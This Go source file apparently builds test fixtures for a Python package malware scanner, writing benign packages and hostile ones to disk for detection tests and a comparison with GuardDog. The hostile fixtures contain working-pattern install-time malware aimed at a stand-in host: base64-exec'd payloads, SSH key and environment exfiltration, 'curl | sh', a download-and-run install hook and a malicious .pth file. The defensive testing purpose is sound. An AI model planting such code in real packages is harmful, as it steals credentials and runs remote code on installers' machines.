// Package scantest writes the small packages that scan's tests, its GuardDog comparison
// and bench/bench-scan.sh read: benign ones that must give no high or medium finding,
// and hostile ones, each planting the behaviours it lists. They are unpacked sdists and
// wheels written as files; nothing of them is ever run.
package scantest

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"github.com/pydepot/pydepot/internal/checkreport"
)

// Plant is one behaviour a hostile package plants.
type Plant struct {
	Kind checkreport.Kind // the finding scan must give for it, high
	What string
	// GuardDog lists the GuardDog rules that claim to cover the behaviour; one of them
	// must fire. Empty: GuardDog has no rule for it.
	GuardDog []string
	// GuardDogMisses: guarddog 3.2.0 does not find it although those rules claim it (its
	// YARA rules match text, not flow through names); the comparison logs it, not fails.
	GuardDogMisses bool
}

// Package is one test package.
type Package struct {
	Name    string
	Hostile bool
	Plants  []Plant
	Files   map[string]string // relative path -> content
}

// Write writes the package's files into dir/Name and returns that folder.
func (p Package) Write(dir string) (string, error) {
	root := filepath.Join(dir, p.Name)
	names := make([]string, 0, len(p.Files))
	for n := range p.Files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		path := filepath.Join(root, filepath.FromSlash(n))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return "", err
		}
		if err := os.WriteFile(path, []byte(p.Files[n]), 0o644); err != nil {
			return "", err
		}
	}
	return root, nil
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func pkgInfo(name string) string {
	return fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: 1.0\nSummary: a scan test package\n", name)
}

func wheelInfo(name string) map[string]string {
	di := strings.ReplaceAll(name, "-", "_") + "-1.0.dist-info/"
	return map[string]string{
		di + "METADATA": pkgInfo(name),
		di + "WHEEL":    "Wheel-Version: 1.0\nGenerator: scantest\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		di + "RECORD":   "",
	}
}

func sdist(name string, files map[string]string) map[string]string {
	top := name + "-1.0/"
	out := map[string]string{top + "PKG-INFO": pkgInfo(name)}
	for n, c := range files {
		out[top+n] = c
	}
	return out
}

func wheel(name string, files map[string]string) map[string]string {
	out := wheelInfo(name)
	for n, c := range files {
		out[n] = c
	}
	return out
}

// The payload the hostile packages hide: it would phone home.
const payload = "import urllib.request\nurllib.request.urlopen('http://203.0.113.7/p')\n"

// Packages returns the test packages, benign first.
func Packages() []Package {
	return []Package{
		{Name: "benign-sdist", Files: sdist("benign-sdist", map[string]string{
			"setup.py": `import os
import re
import subprocess
from setuptools import setup, find_packages
from setuptools.command.build_py import build_py

here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "benign", "version.py")) as f:
    exec(f.read(), about)
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()
if os.environ.get("BENIGN_DEBUG"):
    print("debug build")


class BuildPy(build_py):
    """Copies the data files too."""

    def run(self):
        self.mkpath(self.build_lib)
        build_py.run(self)


setup(
    name="benign-sdist",
    version=about["__version__"],
    long_description=long_description,
    packages=find_packages(),
    cmdclass={"build_py": BuildPy},
)
`,
			"README.md":         "# benign\n",
			"benign/version.py": "__version__ = '1.0'\n",
			"benign/__init__.py": `"""A benign package: it reads config, talks HTTP when asked, decodes tokens."""
import base64
import json
import os
import subprocess
import urllib.request

from .version import __version__


def fetch(url, timeout=10):
    """Fetches url; the caller asked for it (not at import or install)."""
    with urllib.request.urlopen(url, timeout=timeout) as r:
        return json.loads(r.read())


def token(s):
    return base64.b64decode(s).decode("utf-8")


def home():
    return os.environ.get("HOME", "/")


def git_version():
    return subprocess.run(["git", "describe"], capture_output=True, text=True).stdout


def evaluate(expr, names):
    # A calculator: eval of what the user typed, not of decoded data.
    return eval(compile(expr, "<expr>", "eval"), {}, names)
`,
			"benign/tools.py": `import os
import subprocess


def run(cmd):
    env = dict(os.environ, LANG="C")
    return subprocess.run(cmd, env=env, check=True)


def has_proxy():
    return "HTTP_PROXY" in os.environ or os.environ.get("http_proxy") is not None
`,
			"tests/test_benign.py": `import unittest

import benign


class T(unittest.TestCase):
    def test_token(self):
        self.assertEqual(benign.token("aGk="), "hi")
`,
		})},
		{Name: "benign-wheel", Files: wheel("benign-wheel", map[string]string{
			"benign_wheel/__init__.py": `import codecs
import socket

VERSION = "1.0"


def hostname():
    return socket.gethostname()


def rot(s):
    # rot13 for a puzzle game, printed, never run.
    print(codecs.encode(s, "rot13"))


def serve(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("127.0.0.1", port))
    return s
`,
			"benign_wheel-paths.pth": "benign_wheel_extra\n",
		})},
		{Name: "hostile-exec-base64", Hostile: true, Plants: []Plant{
			{Kind: checkreport.Obfuscation, What: "exec(base64.b64decode(...)) in setup.py",
				GuardDog: []string{"threat-runtime-obfuscation-base64exec", "threat-runtime-obfuscation"}},
		}, Files: sdist("hostile-exec-base64", map[string]string{
			"setup.py": "import base64\nfrom setuptools import setup\nexec(base64.b64decode('" + b64(payload) + "'))\nsetup(name='hostile-exec-base64', version='1.0')\n",
		})},
		{Name: "hostile-obfuscated-names", Hostile: true, Plants: []Plant{
			{Kind: checkreport.Obfuscation, What: "zlib+base64 decoded into a name, compiled and exec'd; eval of a chr join",
				GuardDog: []string{"threat-runtime-obfuscation", "threat-runtime-obfuscation-general", "threat-runtime-obfuscation-chr", "threat-runtime-obfuscation-base64exec", "threat-runtime-obfuscation-dynamic-eval"}, GuardDogMisses: true},
		}, Files: wheel("hostile-obfuscated-names", map[string]string{
			"hostile_obf/__init__.py": "import zlib\nimport base64 as b\n\nDATA = '" + b64(payload) + "'\n\n\ndef _load(s):\n    return b.b64decode(s)\n\n\nblob = _load(DATA)\ncode = compile(blob, '<x>', 'exec')\nexec(code)\n" +
				"eval(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n",
		})},
		{Name: "hostile-exfil-ssh", Hostile: true, Plants: []Plant{
			{Kind: checkreport.Exfiltration, What: "~/.ssh/id_rsa read and POSTed with requests",
				GuardDog: []string{"threat-network-exfiltration", "threat-filesystem-read"}},
		}, Files: wheel("hostile-exfil-ssh", map[string]string{
			"hostile_ssh/__init__.py": `import os

import requests


def _steal():
    path = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
    with open(path) as f:
        key = f.read()
    requests.post("http://203.0.113.7/k", data={"key": key})


_steal()
`,
		})},
		{Name: "hostile-exfil-env", Hostile: true, Plants: []Plant{
			{Kind: checkreport.Exfiltration, What: "os.environ dumped to JSON and sent with urlopen from setup.py",
				GuardDog: []string{"threat-network-exfiltration", "threat-runtime-environment-read", "threat-network-exfil-sysinfo"}},
			{Kind: checkreport.SetupNetwork, What: "urlopen in setup.py",
				GuardDog: []string{"threat-setup-network-in-install", "capability-network-outbound"}},
		}, Files: sdist("hostile-exfil-env", map[string]string{
			"setup.py": `import json
import os
import urllib.request
from setuptools import setup

data = json.dumps({"env": dict(os.environ)}).encode()
urllib.request.urlopen("http://203.0.113.7/e", data=data)
setup(name="hostile-exfil-env", version="1.0")
`,
		})},
		{Name: "hostile-setup-shell", Hostile: true, Plants: []Plant{
			{Kind: checkreport.SetupNetwork, What: "a socket connection from setup.py",
				GuardDog: []string{"threat-setup-network-in-install", "capability-network-outbound", "threat-network-reverse-shell"}, GuardDogMisses: true},
			{Kind: checkreport.SetupExec, What: "os.system('curl ... | sh') in setup.py",
				GuardDog: []string{"threat-process-download-exec", "capability-process-spawn", "capability-network-download"}},
		}, Files: sdist("hostile-setup-shell", map[string]string{
			"setup.py": `import os
import socket
from setuptools import setup

s = socket.create_connection(("203.0.113.7", 4444))
s.sendall(b"hello")
os.system("curl -s http://203.0.113.7/x | sh")
setup(name="hostile-setup-shell", version="1.0")
`,
		})},
		{Name: "hostile-cmdclass", Hostile: true, Plants: []Plant{
			{Kind: checkreport.InstallFetch, What: "a custom install command that downloads and runs a file",
				GuardDog: []string{"threat-process-download-exec", "threat-setup-network-in-install", "capability-network-download"}},
		}, Files: sdist("hostile-cmdclass", map[string]string{
			"setup.py": `import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://203.0.113.7/payload", "/tmp/payload")
        subprocess.call(["/bin/sh", "/tmp/payload"])


setup(name="hostile-cmdclass", version="1.0", cmdclass={"install": PostInstall})
`,
		})},
		{Name: "hostile-pth", Hostile: true, Plants: []Plant{
			{Kind: checkreport.Pth, What: "a .pth file that execs base64 data at every start",
				GuardDog: []string{"threat-runtime-obfuscation-base64exec", "threat-process-hooks", "capability-process-hooks"}},
		}, Files: wheel("hostile-pth", map[string]string{
			"hostile_pth/__init__.py": "",
			"hostile_pth-init.pth":    "import base64; exec(base64.b64decode('" + b64(payload) + "'))\n",
		})},
	}
}
